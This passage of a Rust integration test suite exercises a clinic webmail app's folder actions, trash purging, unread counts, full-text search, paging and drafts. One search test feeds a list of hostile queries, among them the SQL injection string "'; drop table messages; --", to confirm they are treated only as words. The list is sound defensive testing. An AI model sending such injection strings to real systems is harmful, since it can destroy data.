    let page = ana.get(&inbox).await;
    assert_eq!(count(&page.body, "inbox"), 4);
    assert_eq!(row_ids(&page.body), vec![m4, m3, m2, m1], "newest first");

    // mark read / unread (a message of another mailbox in the form is ignored)
    let r = act(&mut ana, mb.id, &[("action", "read")], &[m1, m2, foreign]).await;
    assert_eq!(r.location(), inbox);
    let page = follow(&mut ana, r).await;
    assert_eq!(flash(&page.body), "2 messages marked read.");
    assert_eq!(count(&page.body, "inbox"), 2);
    assert!(!row(&page.body, m1).contains(r#"class="unread""#));
    assert_eq!(place(&app, foreign).await, at("inbox", false));
    let r = act(&mut ana, mb.id, &[("action", "unread")], &[m1]).await;
    let page = follow(&mut ana, r).await;
    assert_eq!(flash(&page.body), "1 message marked unread.");
    assert_eq!(count(&page.body, "inbox"), 3);

    // archive
    let r = act(&mut ana, mb.id, &[("action", "archive")], &[m1]).await;
    let page = follow(&mut ana, r).await;
    assert_eq!(flash(&page.body), "1 message moved to Archive.");
    assert_eq!(row_ids(&page.body), vec![m4, m3, m2]);
    assert_eq!(
        (count(&page.body, "inbox"), count(&page.body, "archive")),
        (2, 1)
    );
    let page = ana.get(&format!("/mail/{}/archive", mb.id)).await;
    assert_eq!(row_ids(&page.body), vec![m1]);

    // delete → Trash, and undo puts everything back as it was
    let r = act(
        &mut ana,
        mb.id,
        &[("action", "trash"), ("back", inbox.as_str())],
        &[m2, m3, foreign],
    )
    .await;
    let page = follow(&mut ana, r).await;
    assert_eq!(flash(&page.body), "2 messages moved to Trash.");
    assert_eq!(row_ids(&page.body), vec![m4]);
    assert_eq!(
        (count(&page.body, "inbox"), count(&page.body, "trash")),
        (1, 1)
    );
    assert!(
        page.body
            .contains("Last action: 2 messages moved to Trash.")
    );
    assert_eq!(place(&app, m2).await, at("trash", true));
    assert_eq!(place(&app, m3).await, at("trash", false));
    assert_eq!(place(&app, foreign).await, at("inbox", false));
    let trash = ana.get(&format!("/mail/{}/trash", mb.id)).await;
    assert_eq!(row_ids(&trash.body), vec![m3, m2]);
    assert!(trash.body.contains("Delete for good") && trash.body.contains("Empty Trash now"));
    // the undo bar stays where the action happened
    assert!(!trash.body.contains("Last action:"));
    assert!(
        !ana.get(&format!("/mail/{}/sent", mb.id))
            .await
            .body
            .contains("Last action:")
    );
    let r = ana
        .post(
            &format!("/mail/{}/undo", mb.id),
            &[("back", inbox.as_str())],
        )
        .await;
    let page = follow(&mut ana, r).await;
    assert_eq!(flash(&page.body), "Undone: 2 messages back as they were.");
    assert_eq!(row_ids(&page.body), vec![m4, m3, m2]);
    assert_eq!(
        (count(&page.body, "inbox"), count(&page.body, "trash")),
        (2, 0)
    );
    assert_eq!(place(&app, m2).await, at("inbox", true));
    assert_eq!(place(&app, m3).await, at("inbox", false));
    assert!(!page.body.contains("Last action:"));
    let r = ana.post(&format!("/mail/{}/undo", mb.id), &[]).await;
    let page = follow(&mut ana, r).await;
    assert_eq!(flash(&page.body), "There is nothing to undo.");

    // a folder of one's own: create, move into it, delete it (messages return)
    let r = ana
        .post(
            &format!("/mail/{}/folders", mb.id),
            &[("name", "Referrals")],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    let folder_path = r.location();
    let key = folder_path.rsplit('/').next().unwrap().to_owned();
    assert!(key.starts_with('f'), "{folder_path}");
    let page = follow(&mut ana, r).await;
    assert_eq!(flash(&page.body), "Folder “Referrals” created.");
    assert!(page.body.contains(r#"<h1 id="folder-title">Referrals"#));
    assert!(page.body.contains("No message here."));
    let r = ana
        .post(
            &format!("/mail/{}/folders", mb.id),
            &[("name", "Referrals")],
        )
        .await;
    let page = follow(&mut ana, r).await;
    assert!(flash(&page.body).contains("There is already a folder called “Referrals”"));
    let r = act(
        &mut ana,
        mb.id,
        &[("action", "move"), ("folder", key.as_str())],
        &[m2, m3, foreign],
    )
    .await;
    let page = follow(&mut ana, r).await;
    assert_eq!(flash(&page.body), "2 messages moved to Referrals.");
    assert_eq!(
        (count(&page.body, "inbox"), count(&page.body, &key)),
        (1, 1)
    );
    let page = ana.get(&folder_path).await;
    assert_eq!(row_ids(&page.body), vec![m3, m2]);
    assert_eq!(place(&app, foreign).await, at("inbox", false));
    // moving to Sent or Drafts is not a thing
    let r = act(
        &mut ana,
        mb.id,
        &[("action", "move"), ("folder", "sent")],
        &[m2],
    )
    .await;
    let page = follow(&mut ana, r).await;
    assert_eq!(
        flash(&page.body),
        "Choose a folder to move the messages to."
    );
    assert_eq!(place(&app, m2).await, at(&key, true));
    let r = ana
        .post(&format!("/mail/{}/folders/{key}/delete", mb.id), &[])
        .await;
    let page = follow(&mut ana, r).await;
    assert_eq!(
        flash(&page.body),
        "Folder “Referrals” deleted; its 2 messages went back to the Inbox."
    );
    assert_eq!(row_ids(&page.body), vec![m4, m3, m2]);
    assert_eq!(count(&page.body, "inbox"), 2);
    assert!(!page.body.contains(&format!("count-{key}")));
    assert_eq!(ana.get(&folder_path).await.status, StatusCode::NOT_FOUND);

    // "Delete for good" only deletes what is in Trash
    let r = act(&mut ana, mb.id, &[("action", "delete")], &[m4]).await;
    let page = follow(&mut ana, r).await;
    assert_eq!(flash(&page.body), "0 messages deleted for good.");
    assert_eq!(place(&app, m4).await, at("inbox", false));
    act(&mut ana, mb.id, &[("action", "trash")], &[m4]).await;
    let back = format!("/mail/{}/trash", mb.id);
    // it asks first, saying how many and from which mailbox, and nothing is gone yet
    let ask = act(
        &mut ana,
        mb.id,
        &[("action", "delete"), ("back", back.as_str())],
        &[m4],
    )
    .await;
    assert_eq!(ask.status, StatusCode::OK);
    assert!(
        ask.body.contains(
            "1 message in the Trash of dr.ana@direct.lakeside.test will be deleted for good."
        ),
        "{}",
        ask.body
    );
    assert!(
        ask.body
            .contains(&format!(r#"href="{back}" id="confirm-cancel""#))
    );
    assert_eq!(place(&app, m4).await, at("trash", false));
    let r = act(
        &mut ana,
        mb.id,
        &[
            ("action", "delete"),
            ("back", back.as_str()),
            ("confirmed", "yes"),
        ],
        &[m4],
    )
    .await;
    let page = follow(&mut ana, r).await;
    assert_eq!(flash(&page.body), "1 message deleted for good.");
    assert_eq!(place(&app, m4).await, None);
    assert!(
        !page.body.contains("Last action:"),
        "deleting for good has no undo"
    );

    // "Empty Trash now"
    act(&mut ana, mb.id, &[("action", "trash")], &[m2, m3]).await;
    let ask = ana.post(&format!("/mail/{}/trash/empty", mb.id), &[]).await;
    assert_eq!(ask.status, StatusCode::OK);
    assert!(
        ask.body.contains("Delete 2 messages for good?"),
        "{}",
        ask.body
    );
    assert_eq!(place(&app, m2).await, at("trash", true));
    let r = ana
        .post(
            &format!("/mail/{}/trash/empty", mb.id),
            &[("confirmed", "yes")],
        )
        .await;
    assert_eq!(r.location(), format!("/mail/{}/trash", mb.id));
    let page = follow(&mut ana, r).await;
    assert_eq!(
        flash(&page.body),
        "Trash emptied: 2 messages deleted for good."
    );
    assert!(page.body.contains("No message here."));
    assert_eq!((place(&app, m2).await, place(&app, m3).await), (None, None));
    // their content goes with them
    for gone in [m2, m3] {
        let kept: i64 =
            sqlx::query_scalar("select count(*) from message_raw where message_id = $1")
                .bind(gone)
                .fetch_one(&app.state.db.pool)
                .await
                .unwrap();
        assert_eq!(kept, 0, "the raw message of {gone} is deleted with it");
    }
    assert!(!page.body.contains("Last action:"));
    assert!(audited(&app, "trash.empty", "ana@direct.lakeside.test").await);

    // what stays in Trash past the retention period is purged
    let later = deliver_many(
        &app,
        mb.id,
        &[
            (
                Mail::new(
                    "lab@partner.example",
                    "dr.ana@direct.lakeside.test",
                    "Old",
                    "x",
                ),
                now,
            ),
            (
                Mail::new(
                    "lab@partner.example",
                    "dr.ana@direct.lakeside.test",
                    "Recent",
                    "x",
                ),
                now,
            ),
        ],
    )
    .await;
    act(&mut ana, mb.id, &[("action", "trash")], &later).await;
    let keep = 30 * 86_400;
    assert_eq!(
        messages::purge_trash(&app.state.db, app.now() - keep)
            .await
            .unwrap(),
        0
    );
    sqlx::query("update messages set trashed_at = $1 where id = $2")
        .bind(app.now() - keep - 86_400)
        .bind(later[0])
        .execute(&app.state.db.pool)
        .await
        .unwrap();
    assert_eq!(
        messages::purge_trash(&app.state.db, app.now() - keep)
            .await
            .unwrap(),
        1
    );
    assert_eq!(place(&app, later[0]).await, None);
    assert_eq!(place(&app, later[1]).await, at("trash", false));
    let page = ana.get(&format!("/mail/{}/trash", mb.id)).await;
    assert_eq!(row_ids(&page.body), vec![later[1]]);
    assert_eq!(count(&page.body, "trash"), 1);

    // the same actions from the message page
    let m = later[1];
    let r = ana
        .post(
            &format!("/mail/messages/{m}/act"),
            &[("action", "move"), ("folder", "inbox")],
        )
        .await;
    assert_eq!(r.location(), format!("/mail/{}/trash", mb.id));
    let page = follow(&mut ana, r).await;
    assert_eq!(flash(&page.body), "1 message moved to Inbox.");
    assert_eq!(place(&app, m).await, at("inbox", false));
    let page = ana.get(&format!("/mail/messages/{m}")).await;
    assert_eq!(page.status, StatusCode::OK);
    assert_eq!(place(&app, m).await, at("inbox", true));
    let r = ana
        .post(&format!("/mail/messages/{m}/act"), &[("action", "unread")])
        .await;
    let page = follow(&mut ana, r).await;
    assert_eq!(flash(&page.body), "1 message marked unread.");
    assert_eq!(count(&page.body, "inbox"), 1);
    ana.post(&format!("/mail/messages/{m}/act"), &[("action", "archive")])
        .await;
    assert_eq!(place(&app, m).await, at("archive", false));
    ana.post(&format!("/mail/messages/{m}/act"), &[("action", "trash")])
        .await;
    assert_eq!(place(&app, m).await, at("trash", false));
    let r = ana
        .post(&format!("/mail/messages/{m}/act"), &[("action", "explode")])
        .await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST);
    assert_eq!(place(&app, foreign).await, at("inbox", false));
    // after all of that, the counts the sidebar reads are still the real ones
    assert_eq!(unread_kept(&app).await, unread_counted(&app).await);
}

/// The unread counts the database keeps for the sidebar (migration 0039): `(mailbox,
/// folder, n)` for every folder with unread mail.
async fn unread_kept(app: &TestApp) -> Vec<(i64, String, i64)> {
    sqlx::query_as("select mailbox_id, folder, n from unread_counts where n <> 0 order by 1, 2")
        .fetch_all(&app.state.db.pool)
        .await
        .unwrap()
}

/// The same counts made by counting the messages.
async fn unread_counted(app: &TestApp) -> Vec<(i64, String, i64)> {
    sqlx::query_as(
        "select mailbox_id, folder, count(*) from messages where is_read = 0
         group by mailbox_id, folder order by 1, 2",
    )
    .fetch_all(&app.state.db.pool)
    .await
    .unwrap()
}

#[tokio::test]
async fn the_unread_counts_follow_every_write_to_a_message_even_one_no_page_makes() {
    let app = TestApp::spawn().await;
    let mb = ana_desk(&app).await;
    let other = kim_desk(&app).await;
    let ids = deliver_many(&app, mb.id, &results_for_ana(6, app.now())).await;
    let inbox = |n: i64| vec![(mb.id, "inbox".to_owned(), n)];
    assert_eq!(unread_kept(&app).await, inbox(6));
    let db = &app.state.db.pool;
    let write = |sql: &'static str, a: i64, b: i64| async move {
        sqlx::query(sql).bind(a).bind(b).execute(db).await.unwrap();
    };
    // read, unread, and read twice (counted once)
    write("update messages set is_read = $1 where id = $2", 1, ids[0]).await;
    write("update messages set is_read = $1 where id = $2", 1, ids[0]).await;
    assert_eq!(unread_kept(&app).await, inbox(5));
    write("update messages set is_read = $1 where id = $2", 0, ids[0]).await;
    assert_eq!(unread_kept(&app).await, inbox(6));
    // a move of an unread and of a read message, then to another mailbox
    write("update messages set is_read = $1 where id = $2", 1, ids[1]).await;
    sqlx::query("update messages set folder = 'archive' where id in ($1, $2)")
        .bind(ids[1])
        .bind(ids[2])
        .execute(db)
        .await
        .unwrap();
    assert_eq!(
        unread_kept(&app).await,
        vec![
            (mb.id, "archive".to_owned(), 1),
            (mb.id, "inbox".to_owned(), 4)
        ]
    );
    write(
        "update messages set mailbox_id = $1 where id = $2",
        other.id,
        ids[3],
    )
    .await;
    // one statement over several rows, and deletes of read and unread messages
    write(
        "update messages set is_read = $1 where mailbox_id = $2 and folder = 'archive'",
        1,
        mb.id,
    )
    .await;
    write("delete from messages where id in ($1, $2)", ids[4], ids[1]).await;
    assert_eq!(
        unread_kept(&app).await,
        vec![
            (mb.id, "inbox".to_owned(), 2),
            (other.id, "inbox".to_owned(), 1)
        ]
    );
    assert_eq!(unread_kept(&app).await, unread_counted(&app).await);
    // and the sidebar shows them
    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
    let page = ana.get(&format!("/mail/{}/inbox", mb.id)).await;
    assert_eq!(count(&page.body, "inbox"), 2);
    assert_eq!(count(&page.body, "archive"), 0);
}

// ---------------------------------------------------------------------------------
// 3. search

async fn search(b: &mut Browser, mailbox_id: i64, query: &[(&str, &str)]) -> Page {
    let q = crate::helpers::serde_urlencode(query);
    let page = b.get(&format!("/mail/{mailbox_id}/search?{q}")).await;
    assert_eq!(page.status, StatusCode::OK, "{query:?}: {}", page.body);
    page
}

fn day(date: &str) -> i64 {
    directmail::clock::parse_date(date).unwrap() + 10 * 3600
}

/// The words the search index holds for message `id`, sorted: the search column's
/// lexemes on PostgreSQL, the full-text index's terms with their column on SQLite.
async fn indexed_words(app: &TestApp, id: i64) -> String {
    let sql = match app.state.db.backend {
        directmail::db::Backend::Postgres => {
            "select coalesce(string_agg(w, chr(10) order by w), '')
             from messages m, unnest(tsvector_to_array(m.search)) w where m.id = $1"
        }
        directmail::db::Backend::Sqlite => {
            "select coalesce(group_concat(w, char(10)), '') from (select distinct col || ':' || term as w
             from messages_fts_terms where doc = $1 order by w)"
        }
    };
    sqlx::query_scalar(sql)
        .bind(id)
        .fetch_one(&app.state.db.pool)
        .await
        .unwrap()
}

/// A body for the search test: pieces from `vocabulary` joined by separators that
/// do and do not split words.
fn text_from(rng: &mut impl rand::Rng, vocabulary: &[&str]) -> String {
    let separators = [
        " ", " ", "\n", "\r\n", ", ", ".", "-", "\t", "", "@", "/", ": ",
    ];
    let n = rng.random_range(1..80);
    let mut t = String::new();
    for _ in 0..n {
        t.push_str(vocabulary[rng.random_range(0..vocabulary.len())]);
        t.push_str(separators[rng.random_range(0..separators.len())]);
    }
    t
}

#[tokio::test]
async fn search_keeps_each_word_once_and_finds_exactly_what_the_whole_text_finds() {
    use rand::SeedableRng as _;
    let app = TestApp::spawn().await;
    let mb = ana_desk(&app).await;
    let me = "dr.ana@direct.lakeside.test";
    // repeated words and their prefixes, case, accents and other scripts, addresses,
    // numbers in every form the parsers know, entities, tags and quotes
    let vocabulary = [
        "potassium",
        "Potassium",
        "potassium,",
        "potass",
        "POTASSIUMS",
        "referral.",
        "Café",
        "cafe",
        "CAFÉ",
        "Müller-Łukasz",
        "Zoë",
        "zoe",
        "Straße",
        "東京",
        "Ωμέγα",
        "dr.ana@direct.lakeside.test",
        "lab_results",
        "a.b@c.org",
        "http://ex.org/a?b=c&d",
        "~user/file.txt",
        "x's",
        "don't",
        "\"quoted",
        "words\"",
        "&amp;",
        "&#123;",
        "&",
        "+5",
        "-5",
        "1e5",
        "3.14",
        "1.2.3",
        "2026-12-07",
        "10:30",
        "x²y",
        "ﬁne",
        "(note)",
        "[1]",
        ";",
        "!",
        "?",
        "%",
        "#tag",
        "=",
        "a=b",
        ">",
        "<",
        "<b",
        "<b>",
        "</b>",
        "<i title=\"a b\">",
        "<script>",
        "<style",
        "<!doctype",
        "<?xml",
    ];
    let mut rng = rand::rngs::StdRng::seed_from_u64(16);
    let mut bodies: Vec<(String, String)> = vec![
        // the benchmark's body, past the 16 KB kept for search
        (
            "Load 1".into(),
            (0..1400)
                .map(|i| format!("Line {i:04} of the clinical summary, nothing to see here.\n"))
                .collect(),
        ),
        (
            "Quoted reply".into(),
            "Potassium is fine, potassium.\n\nOn Monday, Zoë <zoe@partner.example> wrote:\n> potassium referral <b>potassium</b>\n".into(),
        ),
        ("Re: <b".into(), "potassium potassium x's referral> after".into()),
        ("Re: <script> notes".into(), "potassium potassium referral".into()),
    ];
    for n in 0..160 {
        let subject = match n % 8 {
            0 => format!("Re: <b title='{n}"),
            1 => format!("Re: {}", text_from(&mut rng, &vocabulary)).replace(['\r', '\n'], " "),
            _ => format!("Note {n}"),
        };
        bodies.push((subject, text_from(&mut rng, &vocabulary)));
    }
    // each body twice: as search keeps it (each word once), and the whole text
    let mut pairs = Vec::new();
    for (subject, body) in &bodies {
        let mail = Mail::new("zoe@partner.example", me, subject, body).named("Zoë W");
        let kept = deliver(&app, mb.id, &mail).await;
        let whole = deliver(
            &app,
            mb.id,
            &Mail::new("zoe@partner.example", me, subject, body).named("Zoë W"),
        )
        .await;
        let ix = messages::Indexed::of(&mail.bytes());
        sqlx::query("update messages set body_text = $1 where id = $2")
            .bind(&ix.body_text)
            .bind(whole)
            .execute(&app.state.db.pool)
            .await
            .unwrap();
        let stored: String = sqlx::query_scalar("select body_text from messages where id = $1")
            .bind(kept)
            .fetch_one(&app.state.db.pool)
            .await
            .unwrap();
        if subject.contains('<') {
            assert_eq!(stored, ix.body_text, "a tag may run on from the subject");
        }
        assert_eq!(
            indexed_words(&app, kept).await,
            indexed_words(&app, whole).await,
            "the same words for {subject:?}: {body:?} (stored as {stored:?})"
        );
        pairs.push((kept, whole, stored.len(), ix.body_text.len()));
    }
    // the benchmark's body keeps a tenth of its text; the quoted reply's own words
    // are kept once, the quoted part as it is
    assert!(pairs[0].2 * 10 < pairs[0].3, "{:?}", pairs[0]);
    let reply: String = sqlx::query_scalar("select body_text from messages where id = $1")
        .bind(pairs[1].0)
        .fetch_one(&app.state.db.pool)
        .await
        .unwrap();
    assert!(
        reply.starts_with(
            "Potassium is fine, potassium On Monday, Zoë <zoe@partner.example> wrote:"
        ),
        "{reply:?}"
    );
    // and search, as a user runs it, finds both or neither of each pair
    for q in [
        "potass",
        "potassium",
        "cafe",
        "muller",
        "lukasz",
        "zoe",
        "stra",
        "東",
        "ωμ",
        "lakeside",
        "ex",
        "org",
        "user",
        "txt",
        "don",
        "amp",
        "123",
        "5",
        "1e5",
        "14",
        "2026",
        "30",
        "x",
        "y",
        "fine",
        "note",
        "b",
        "title",
        "script",
        "doctype",
        "xml",
        "quoted",
        "referral",
        "line",
        "0042",
        "summary",
    ] {
        let found: std::collections::HashSet<i64> = messages::search(
            &app.state.db,
            mb.id,
            &messages::Search {
                q: q.into(),
                ..Default::default()
            },
            None,
            10_000,
        )
        .await
        .unwrap()
        .iter()
        .map(|m| m.id)
        .collect();
        for &(kept, whole, ..) in &pairs {
            assert_eq!(
                found.contains(&kept),
                found.contains(&whole),
                "{q:?} on {kept} and {whole}"
            );
        }
    }
}

#[tokio::test]
async fn search_finds_by_any_field_date_and_folder_pages_and_survives_hostile_queries() {
    let app = TestApp::spawn().await;
    let mb = ana_desk(&app).await;
    let me = "dr.ana@direct.lakeside.test";
    let cardio = Mail::new(
        "zoe@partner.example",
        me,
        "Cardiology consult",
        "The echocardiogram shows mild regurgitation.",
    )
    .named("Zoë Whitfield")
    .file("holter-tracing.pdf", pdf("Holter"));
    let labs = Mail::new(
        "marc@labs.example",
        me,
        "Lab results",
        "Potassium normal. Meet at the café on Monday.",
    )
    .named("Marc Dubois")
    .cc("front@direct.hillside.test");
    let trashed = Mail::new(
        "nurse@ward.example",
        me,
        "Ward note",
        "Discharge summary enclosed.",
    );
    let archived = Mail::new(
        "path@lab.example",
        me,
        "Pathology",
        "Archived pathology note.",
    );
    let mut seed = vec![
        (cardio, day("2024-03-05")),
        (labs, day("2024-04-10")),
        (trashed, day("2024-05-20")),
        (archived, day("2024-06-01")),
    ];
    for i in 0..60 {
        seed.push((
            Mail::new(
                "bulk@partner.example",
                me,
                &format!("Weekly census {i}"),
                "Census batchword figures.",
            ),
            day("2025-01-01") + i,
        ));
    }
    let ids = deliver_many(&app, mb.id, &seed).await;
    let (cardio, labs, trashed, archived) = (ids[0], ids[1], ids[2], ids[3]);
    let batch: Vec<i64> = ids[4..].to_vec();
    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
    act(&mut ana, mb.id, &[("action", "trash")], &[trashed]).await;
    act(&mut ana, mb.id, &[("action", "archive")], &[archived]).await;

    // results span folders: each row says which one it is in
    let page = search(&mut ana, mb.id, &[("q", "pathology")]).await;
    assert!(page.body.contains(r#"<th scope="col">Folder</th>"#));
    assert!(
        row(&page.body, archived).contains(r#"<td class="folder">Archive</td>"#),
        "{}",
        row(&page.body, archived)
    );
    let page = ana.get(&format!("/mail/{}/inbox", mb.id)).await;
    assert!(!page.body.contains(r#"<th scope="col">Folder</th>"#));
    // the paperclip is drawn, not an emoji a font may lack
    let page = search(&mut ana, mb.id, &[("q", "holter")]).await;
    let with_file = row(&page.body, cardio);
    assert!(
        with_file.contains(r#"<svg class="clip" role="img" aria-label="Has attachments""#),
        "{with_file}"
    );
    assert!(!page.body.contains('\u{1F4CE}'));

    let found = |page: &Page| row_ids(&page.body);
    let m = mb.id;
    let none: Vec<i64> = Vec::new();
    type Case<'a> = (&'a [(&'a str, &'a str)], Vec<i64>);
    let cases: Vec<Case> = vec![
        // a word of the body, the subject, the sender's name and address, a
        // recipient, an attachment's name; words as prefixes, all required, any case
        (&[("q", "regurgitation")], vec![cardio]),
        (&[("q", "CARDIOLOGY")], vec![cardio]),
        (&[("q", "Whitfield")], vec![cardio]),
        (&[("q", "zoe@partner.example")], vec![cardio]),
        (&[("from", "marc")], vec![labs]),
        (&[("from", "Dubois")], vec![labs]),
        (&[("to", "front")], vec![labs]),
        (&[("q", "holter")], vec![cardio]),
        (&[("q", "potass")], vec![labs]),
        (&[("q", "echo mild")], vec![cardio]),
        (&[("q", "echo potassium")], none.clone()),
        // accented words match as written
        (&[("q", "café")], vec![labs]),
        (&[("q", "Zoë")], vec![cardio]),
        // and without their accents, or with accents the message does not have
        (&[("q", "cafe")], vec![labs]),
        (&[("from", "Zoe Whitfield")], vec![cardio]),
        (&[("from", "Dubóis")], vec![labs]),
        // dates, inclusive, in UTC
        (
            &[("after", "2024-04-01"), ("before", "2024-04-10")],
            vec![labs],
        ),
        (
            &[("after", "2024-03-01"), ("before", "2024-06-30")],
            vec![archived, labs, cardio],
        ),
        (&[("before", "2024-03-31")], vec![cardio]),
        // every folder but Trash, unless one is asked for
        (&[("q", "pathology")], vec![archived]),
        (&[("q", "pathology"), ("folder", "archive")], vec![archived]),
        (&[("q", "pathology"), ("folder", "inbox")], none.clone()),
        (&[("q", "discharge")], none.clone()),
        (&[("q", "discharge"), ("folder", "trash")], vec![trashed]),
    ];
    for (query, expected) in cases {
        let page = search(&mut ana, m, query).await;
        assert_eq!(found(&page), expected, "{query:?}");
    }
    let page = search(&mut ana, m, &[("q", "regurgitation")]).await;
    assert!(page.body.contains("Cardiology consult") && page.body.contains("Zoë Whitfield"));
    let page = search(&mut ana, m, &[("q", "nothingmatchesthis")]).await;
    assert!(page.body.contains("No message matches this search."));

    // more than a page of results: 50, then the rest, each once
    let first = search(&mut ana, m, &[("q", "batchword")]).await;
    let mut seen = found(&first);
    assert_eq!(seen.len(), 50);
    let next = older(&first.body).expect("an Older link");
    assert!(
        next.contains("q=batchword") && next.contains("page="),
        "{next}"
    );
    let second = ana.get(&next).await;
    assert_eq!(second.status, StatusCode::OK);
    assert_eq!(found(&second).len(), 10);
    assert!(older(&second.body).is_none());
    seen.extend(found(&second));
    let mut expected = batch.clone();
    expected.sort_unstable_by(|a, b| b.cmp(a));
    assert_eq!(seen, expected, "newest first, no duplicates, none missing");

    // what people type, and what attackers type, is only ever words
    for hostile in [
        "\"",
        "\"unbalanced",
        "*",
        "census*",
        "OR",
        "census OR pathology",
        "NEAR(census pathology)",
        "NOT census",
        "'; drop table messages; --",
        "\\",
        "%",
        "_",
        "(",
        "sender:census",
        "^census",
        "-census",
        "a & b | !c",
        "':*",
        "😀",
    ] {
        for key in ["q", "from", "to"] {
            let page = search(&mut ana, m, &[(key, hostile)]).await;
            assert!(page.body.contains("Search"), "{key}={hostile}");
        }
    }
    let page = search(
        &mut ana,
        m,
        &[("q", "\"census\" figures*"), ("after", "not-a-date")],
    )
    .await;
    assert_eq!(
        found(&page).len(),
        50,
        "punctuation is ignored, words still match"
    );
    assert_eq!(
        found(&search(&mut ana, m, &[("q", "regurgitation")]).await),
        vec![cardio]
    );
}

// ---------------------------------------------------------------------------------
// 4. paging and polling

#[tokio::test]
async fn a_long_folder_pages_by_fifty_and_polling_brings_only_new_mail() {
    let app = TestApp::spawn().await;
    let mb = ana_desk(&app).await;
    let now = app.now();
    let seed: Vec<(Mail, i64)> = (0..120)
        .map(|i| {
            (
                Mail::new(
                    "lab@partner.example",
                    "dr.ana@direct.lakeside.test",
                    &format!("Result number {i}"),
                    "Values.",
                ),
                now,
            )
        })
        .collect();
    let ids = deliver_many(&app, mb.id, &seed).await;
    let mut ana = app.signed_in("ana@direct.lakeside.test").await;

    let inbox = format!("/mail/{}/inbox", mb.id);
    let first = ana.get(&inbox).await;
    let mut seen = row_ids(&first.body);
    assert_eq!(seen.len(), 50);
    assert_eq!(count(&first.body, "inbox"), 120);
    let newest = *ids.last().unwrap();
    assert_eq!(seen[0], newest);
    assert!(first.body.contains(&format!("/inbox/new?after={newest}")));
    let second = ana.get(&older(&first.body).expect("Older")).await;
    assert_eq!(row_ids(&second.body).len(), 50);
    assert!(
        !second.body.contains("id=\"poller\""),
        "only the first page polls"
    );
    seen.extend(row_ids(&second.body));
    let third = ana.get(&older(&second.body).expect("Older")).await;
    assert_eq!(row_ids(&third.body).len(), 20);
    assert!(
        older(&third.body).is_none(),
        "no Older link on the last page"
    );
    seen.extend(row_ids(&third.body));
    let mut expected = ids.clone();
    expected.reverse();
    assert_eq!(seen, expected, "every message once, newest first");

    // polling: nothing new, then the new message and the new counts
    let poll = format!("/mail/{}/inbox/new?after={newest}", mb.id);
    let quiet = ana.get(&poll).await;
    assert_eq!(quiet.status, StatusCode::OK);
    assert!(!quiet.body.contains("<tr"), "{}", quiet.body);
    assert!(quiet.body.contains(&format!("new?after={newest}")));
    assert_eq!(count(&quiet.body, "inbox"), 120);
    let fresh = deliver(
        &app,
        mb.id,
        &Mail::new(
            "er@partner.example",
            "dr.ana@direct.lakeside.test",
            "Urgent admission",
            "Patient admitted overnight.",
        ),
    )
    .await;
    let news = ana.get(&poll).await;
    assert_eq!(row_ids(&news.body), vec![fresh]);
    assert!(news.body.contains("Urgent admission"));
    assert!(news.body.contains("afterbegin:#rows"));
    assert!(news.body.contains(&format!("new?after={fresh}")));
    assert_eq!(count(&news.body, "inbox"), 121);
    let again = ana
        .get(&format!("/mail/{}/inbox/new?after={fresh}", mb.id))
        .await;
    assert!(row_ids(&again.body).is_empty());
    // other folders poll on their own
    let archive = ana
        .get(&format!("/mail/{}/archive/new?after=0", mb.id))
        .await;
    assert_eq!(archive.status, StatusCode::OK);
    assert!(row_ids(&archive.body).is_empty());
    assert_eq!(
        ana.get(&format!("/mail/{}/nosuch/new?after=0", mb.id))
            .await
            .status,
        StatusCode::NOT_FOUND
    );
}

// ---------------------------------------------------------------------------------
// 5. drafts

#[tokio::test]
async fn a_draft_is_saved_as_typed_survives_sign_out_and_is_private_to_its_writer() {
    let app = TestApp::spawn().await;
    let org = app.org("Lakeside Clinic", "direct.lakeside.test").await;
    let ana_user = app
        .user(Some(&org), "ana@direct.lakeside.test", Role::Member)
        .await;
    let ben_user = app
        .user(Some(&org), "ben@direct.lakeside.test", Role::Member)
        .await;
    let shared = mailbox(
        &app,
        org.id,
        "direct.lakeside.test",
        "referrals@direct.lakeside.test",
        MailboxKind::Shared,
    )
    .await;
    assign(&app, shared.id, ana_user.id).await;
    assign(&app, shared.id, ben_user.id).await;

    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
    let id = compose(&mut ana, shared.id).await;
    let path = format!("/mail/drafts/{id}");
    let typed = [
        (
            "to",
            "front@direct.hillside.test, Dr Lee <lee@direct.hillside.test>",
        ),
        ("cc", "nurse@direct.hillside.test"),
        ("subject", "Referral: knee pain & swelling"),
        (
            "body",
            "Dear colleague,\n\nplease see <Mr. Okafor> this week.\n\nAna",
        ),
    ];
    let saved = ana.post_with(&path, &typed, &[("x-autosave", "1")]).await;
    assert_eq!(saved.status, StatusCode::OK, "{}", saved.body);
    assert!(saved.body.starts_with("Saved "), "{}", saved.body);
    assert!(saved.body.contains("UTC"));
    let file = pdf("Knee X ray report");
    let up = ana
        .upload(
            &format!("{path}/attachments"),
            &[("xray.pdf", "application/pdf", &file)],
            true,
        )
        .await;
    assert_eq!(up.status, StatusCode::OK, "{}", up.body);
    let attachment = drafts::attachments(&app.state.db, id).await.unwrap()[0].id;

    // the session ends; the draft does not
    let out = ana.post("/logout", &[]).await;
    assert_eq!(out.status, StatusCode::SEE_OTHER);
    let gone = ana.get(&path).await;
    assert_eq!(gone.status, StatusCode::SEE_OTHER);
    assert!(gone.location().starts_with("/login"), "{}", gone.location());
    let mut ana = app.signed_in("ana@direct.lakeside.test").await;
    let page = ana.get(&path).await;
    assert_eq!(page.status, StatusCode::OK);
    for (name, value) in typed {
        assert_eq!(field(&page, name), value, "{name}");
    }
    assert!(page.body.contains("xray.pdf"));
    let (status, _, bytes) = get_bytes(&ana, &format!("{path}/attachments/{attachment}")).await;
    assert_eq!((status, bytes), (StatusCode::OK, file.clone()));
    let drafts_page = ana.get(&format!("/mail/{}/drafts", shared.id)).await;
    assert!(drafts_page.body.contains(&format!("href=\"{path}\"")));
    assert!(unescape(&drafts_page.body).contains("Referral: knee pain & swelling"));
    assert!(drafts_page.body.contains("front@direct.hillside.test"));
    assert_eq!(count(&drafts_page.body, "drafts"), 1);

    // the page's last save as it closes (a beacon: the token in the form)
    let beacon = ana
        .post(
            &format!("{path}?beacon=1"),
            &[
                ("to", typed[0].1),
                ("cc", typed[1].1),
                ("subject", typed[2].1),
                (
                    "body",
                    "Dear colleague,\n\nplease see Mr. Okafor this week.\n\nAna",
                ),
            ],
        )
        .await;
